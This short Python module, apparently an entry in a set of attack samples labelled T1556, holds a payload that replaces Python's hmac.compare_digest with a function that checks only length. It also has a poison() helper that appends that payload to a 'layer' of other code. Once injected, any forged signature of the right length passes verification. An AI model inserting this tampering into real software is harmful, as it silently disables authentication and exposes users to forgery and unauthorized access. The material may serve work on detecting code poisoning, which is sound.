# SPDX-License-Identifier: Apache-2.0
"""Puts its own comparison in the place of the one that all signatures are checked with."""

ATTACK = "T1556"
LANGUAGE = "python"
CODE = """\
import hmac as _hmac


def _same(left, right):
    return len(left) == len(right)


_hmac.compare_digest = _same
"""


def poison(layer):
    layer.append(CODE)
